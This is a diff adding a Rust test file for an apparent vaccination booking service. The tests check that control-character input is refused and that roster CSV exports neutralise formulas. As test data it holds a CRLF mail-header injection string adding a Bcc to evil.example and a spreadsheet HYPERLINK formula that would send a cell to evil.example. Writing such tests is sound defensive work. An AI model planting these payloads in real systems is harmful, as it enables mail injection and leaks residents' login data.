@@ -1,0 +1,198 @@
+//! Hostile input (issue 23): text with control characters is refused at
+//! every entrance, with the field named; nothing of a refused record is
+//! stored.
+
+use reqwest::Method;
+use serde_json::{Value, json};
+
+use crate::helpers::{ADMIN_KEY, Backend, STAFF_KEY, TestApp, future_date, ticket};
+
+/// Text that would add a header line to a mail, or turn a name around in a roster.
+const HOSTILE: [&str; 4] = [
+    "住民\r\nBcc: victim@evil.example",
+    "住民\tタブ",
+    "\u{202E}住民",
+    "住民\u{0085}",
+];
+
+fn assert_invalid_text(status: u16, body: &Value, field: &str, what: &str) {
+    assert_eq!(status, 400, "{what}: {body}");
+    assert_eq!(body["code"], "invalid_text", "{what}: {body}");
+    assert_eq!(body["field"], field, "{what}: {body}");
+}
+
+async fn text_with_control_characters_is_refused_everywhere(backend: Backend) {
+    let app = TestApp::spawn(backend).await;
+    app.put_venue("clinic-001", "central", &["moderna"]).await;
+    for bad in HOSTILE {
+        // Residents, as JSON: the record alone is refused, the good one stored.
+        for field in ["name", "email", "phone"] {
+            let mut record = json!({"ticket_number": ticket(8_000_000_001), "birth_date": "1950-04-01",
+                "name": "中野 太郎", "high_risk": false, "history": []});
+            record[field] = json!(bad);
+            let good = json!({"ticket_number": ticket(8_000_000_002), "birth_date": "1950-04-01",
+                "name": "中野 花子", "high_risk": false, "history": []});
+            let (status, report) = app
+                .send(
+                    Method::POST,
+                    "/v1/admin/residents",
+                    Some(ADMIN_KEY),
+                    Some(&json!([record, good])),
+                )
+                .await;
+            assert_eq!(status, 200, "{report}");
+            assert_eq!(
+                report["rejected"],
+                json!([{"line": 1, "code": "invalid_text", "field": field}]),
+                "{field} {bad:?}"
+            );
+        }
+        // Venues: name, address and phone; the venue keeps its old text.
+        for field in ["name", "address", "phone"] {
+            let mut venue = json!({"name": "中野サンプラザ", "kind": "mass", "booking": "central",
+                "address": "中野区", "phone": "03", "vaccines": ["moderna"]});
+            venue[field] = json!(bad);
+            let (status, body) = app
+                .send(
+                    Method::PUT,
+                    "/v1/admin/venues/clinic-001",
+                    Some(ADMIN_KEY),
+                    Some(&venue),
+                )
+                .await;
+            assert_invalid_text(status, &body, field, "venue");
+        }
+        // An account's display name: no account made.
+        let (status, body) = app
+            .send(
+                Method::PUT,
+                "/v1/admin/accounts/tablet-1",
+                Some(ADMIN_KEY),
+                Some(&json!({"role": "staff", "display_name": bad})),
+            )
+            .await;
+        assert_invalid_text(status, &body, "display_name", "account");
+        // The kill switch's reason: the switch stays as it was.
+        let (status, body) = app
+            .send(
+                Method::PUT,
+                "/v1/admin/kill-switch",
+                Some(ADMIN_KEY),
+                Some(&json!({"engaged": true, "reason": bad})),
+            )
+            .await;
+        assert_invalid_text(status, &body, "reason", "kill switch");
+    }
+    let (_, venues) = app.send(Method::GET, "/v1/venues", None, None).await;
+    assert_eq!(venues["venues"][0]["name"], "Venue clinic-001", "{venues}");
+    let (_, accounts) = app
+        .send(Method::GET, "/v1/admin/accounts", Some(ADMIN_KEY), None)
+        .await;
+    assert_eq!(accounts["accounts"], json!([]), "{accounts}");
+    let (_, switch) = app
+        .send(Method::GET, "/v1/admin/kill-switch", Some(ADMIN_KEY), None)
+        .await;
+    assert_eq!(switch["engaged"], false, "{switch}");
+    // Only the good resident was stored: the one with a hostile name cannot log in.
+    app.login_as(&ticket(8_000_000_002), "1950-04-01").await;
+    let (status, _) = app
+        .send(
+            Method::POST,
+            "/v1/sessions",
+            None,
+            Some(&json!({"ticket_number": ticket(8_000_000_001), "birth_date": "1950-04-01"})),
+        )
+        .await;
+    assert_eq!(status, 401);
+}
+
+async fn a_csv_row_with_a_line_break_in_a_quoted_name_is_refused_by_its_line(backend: Backend) {
+    let app = TestApp::spawn(backend).await;
+    let csv = format!(
+        "ticket_number,birth_date,name\n\
+         {},1950-04-01,\"住民\r\nBcc: victim@evil.example\"\n\
+         {},1950-04-01,中野 花子\n\
+         {},1950-04-01,\"\u{202E}逆さ\"\n",
+        ticket(8_000_000_011),
+        ticket(8_000_000_012),
+        ticket(8_000_000_013),
+    );
+    let report = app.import_csv(&csv).await;
+    assert_eq!(report["imported"], 1, "{report}");
+    // The second row starts on the file's fourth line: the first spans two.
+    assert_eq!(
+        report["rejected"],
+        json!([
+            {"line": 2, "code": "invalid_text", "field": "name"},
+            {"line": 5, "code": "invalid_text", "field": "name"},
+        ]),
+        "{report}"
+    );
+}
+
+/// A roster row holds a ticket number and a birth date, which together are
+/// a login: a name a spreadsheet runs as a formula could send them out.
+async fn the_roster_csv_has_a_bom_and_runs_no_formula(backend: Backend) {
+    let app = TestApp::spawn(backend).await;
+    let date = future_date(10);
+    app.venue_day("clinic-001", &date, &[("10:00", 10)]).await;
+    let names = [
+        "=HYPERLINK(\"http://evil.example/?\"&A1,\"csv\")",
+        "+81 太郎",
+        "-1+1",
+        "@SUM(A1)",
+    ];
+    let records: Vec<Value> = names
+        .iter()
+        .enumerate()
+        .map(|(i, name)| {
+            json!({"ticket_number": ticket(8_100_000_000 + i as u64), "birth_date": "1950-04-01",
+                "name": name, "high_risk": false, "history": []})
+        })
+        .collect();
+    app.import(json!(records)).await;
+    for i in 0..names.len() {
+        let token = app
+            .login_as(&ticket(8_100_000_000 + i as u64), "1950-04-01")
+            .await;
+        let (status, body) = app.book(&token, "clinic-001", &date, "10:00").await;
+        assert_eq!(status, 201, "{body}");
+    }
+    let bytes = app
+        .client
+        .get(app.url(&format!("/v1/staff/venues/clinic-001/days/{date}/roster")))
+        .bearer_auth(STAFF_KEY)
+        .header("accept", "text/csv")
+        .send()
+        .await
+        .unwrap()
+        .bytes()
+        .await
+        .unwrap();
+    let text = std::str::from_utf8(&bytes)
+        .unwrap()
+        .strip_prefix('\u{feff}')
+        .expect("the roster starts with a BOM");
+    let mut reader = csv::Reader::from_reader(text.as_bytes());
+    let mut shown: Vec<String> = reader.records().map(|r| r.unwrap()[3].to_owned()).collect();
+    shown.sort();
+    let mut expected: Vec<String> = names.iter().map(|n| format!("'{n}")).collect();
+    expected.sort();
+    assert_eq!(shown, expected);
+    // JSON is for programs: the names as they are.
+    let (_, roster) = app
+        .send(
+            Method::GET,
+            &format!("/v1/staff/venues/clinic-001/days/{date}/roster"),
+            Some(STAFF_KEY),
+            None,
+        )
+        .await;
+    assert!(roster.to_string().contains("@SUM(A1)"), "{roster}");
+}
+
+on_both_stores!(
+    the_roster_csv_has_a_bom_and_runs_no_formula,
+    text_with_control_characters_is_refused_everywhere,
+    a_csv_row_with_a_line_break_in_a_quoted_name_is_refused_by_its_line,
+);
